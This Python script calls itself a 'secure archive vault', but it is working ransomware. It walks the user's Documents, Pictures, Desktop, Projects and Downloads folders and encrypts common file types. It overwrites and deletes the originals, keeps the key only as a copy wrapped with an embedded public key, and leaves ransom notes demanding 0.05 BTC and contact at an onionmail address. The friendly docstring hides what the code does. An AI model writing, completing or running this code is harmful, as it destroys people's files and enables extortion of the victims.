#!/usr/bin/env python3
"""Secure archive vault.

Protects personal documents at rest: every document below the chosen roots
is sealed into an encrypted ".vault" container and the plaintext copy is
securely shredded. A recovery notice explains how to obtain the vault key.
"""
import argparse
import concurrent.futures
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

log = logging.getLogger("vault")

SETTINGS = {
    "roots": ["Documents", "Pictures", "Desktop", "Projects", "Downloads"],
    "extensions": {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
                   ".txt", ".csv", ".sql", ".zip", ".py", ".psd"},
    "suffix": ".vault",
    "notice": "RESTORE_YOUR_FILES.txt",
    "contact": "vaultdesk@onionmail.org",
}

ESCROW_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxXy6KAGRHqfjl2kR6tiE
LHW8kN9+nc+HQhnuI2OAorEV3ZlIRK0BKHOfyiMJpMybEIs4lHfGTu1QaF3uO2JW
gqU7pUMZkJs/klunDjYeIqvODmre2Qx1+QpqxV6O2JEsJrKjbr9pH+9UHUaBR/Le
3+BiaDcNddCzpY6IGUkZqARpwT0bd++cHp/WHg3hldU87EpZi9hzPCz+03Miym12
yP0n4eT2abTFphQTAvNkPDTZ2sb+tSX/o++kpBG69m075W8dEr8dERc7jOpyBFmm
a6at6LVdOawKKJSvXKSMtBCM7IYGr/yCRfMFUWIx0pmrtM0vaPUc8BlNckw93Whw
ewIDAQAB
-----END PUBLIC KEY-----
"""

NOTICE = """Your documents have been sealed with military grade encryption.
To recover them send 0.05 BTC to bc1q7x2lw0vault9recovery3x and mail your
recovery ID below to {contact}. Do not rename the .vault files.

{ident}
"""


def escrow(key):
    """Wrap the vault key for the recovery desk; only they can unwrap it."""
    public = serialization.load_pem_public_key(ESCROW_KEY)
    wrapped = public.encrypt(key, padding.OAEP(
        mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
    return wrapped.hex()


class Shredder:
    """Overwrites a file with zeros before unlinking it."""

    @staticmethod
    def shred(path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


class Sealer:
    def __init__(self, key):
        self.cipher = Fernet(key)
        self.sealed = 0

    def candidates(self, base):
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in SETTINGS["extensions"]:
                    yield path

    def seal(self, path):
        try:
            token = self.cipher.encrypt(path.read_bytes())
            path.with_name(path.name + SETTINGS["suffix"]).write_bytes(token)
            Shredder.shred(path)
            self.sealed += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def drop_notice(self, directory, ident):
        text = NOTICE.format(ident=ident, contact=SETTINGS["contact"])
        (directory / SETTINGS["notice"]).write_text(text)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--home", default=os.path.expanduser("~"))
    parser.add_argument("--threads", type=int, default=8)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    key = Fernet.generate_key()
    ident = escrow(key)
    sealer = Sealer(key)
    del key  # only the escrowed copy survives

    home = Path(args.home)
    roots = [home / r for r in SETTINGS["roots"] if (home / r).is_dir()]
    with concurrent.futures.ThreadPoolExecutor(max_workers=args.threads) as pool:
        for root in roots:
            pool.map(sealer.seal, list(sealer.candidates(root)))
            sealer.drop_notice(root, ident)
    sealer.drop_notice(home, ident)
    log.info("sealed %d documents", sealer.sealed)


if __name__ == "__main__":
    main()
